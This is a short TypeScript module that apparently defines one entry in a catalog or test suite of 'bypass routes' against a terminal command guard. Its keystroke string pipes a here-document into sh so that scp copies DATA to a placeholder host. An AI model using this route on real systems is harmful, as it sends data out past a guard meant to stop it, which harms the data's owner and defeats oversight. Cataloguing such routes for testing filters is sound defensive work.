import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'terminal',
  name: 'by a here-document into a shell',
  source: 'thought of with the keys of the line editor',
  keys: ['sh <<E\rscp DATA host:\rE\r'],
  isRaw: true,
};
